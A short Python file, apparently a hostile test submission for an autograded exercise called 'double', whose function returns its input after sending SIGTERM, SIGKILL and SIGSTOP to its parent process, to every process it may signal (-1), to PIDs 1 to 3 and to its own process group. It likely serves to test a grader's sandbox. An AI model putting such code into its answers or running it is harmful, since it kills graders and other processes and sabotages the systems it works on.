"""Sends every signal to its parent, to everybody and to the first processes."""
# ruff: noqa

# %% exercise="double"
import os, signal


def double(x):
    for process in (os.getppid(), -1, 1, 2, 3, 0):
        for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(process, number)
            except OSError:
                pass
    return x
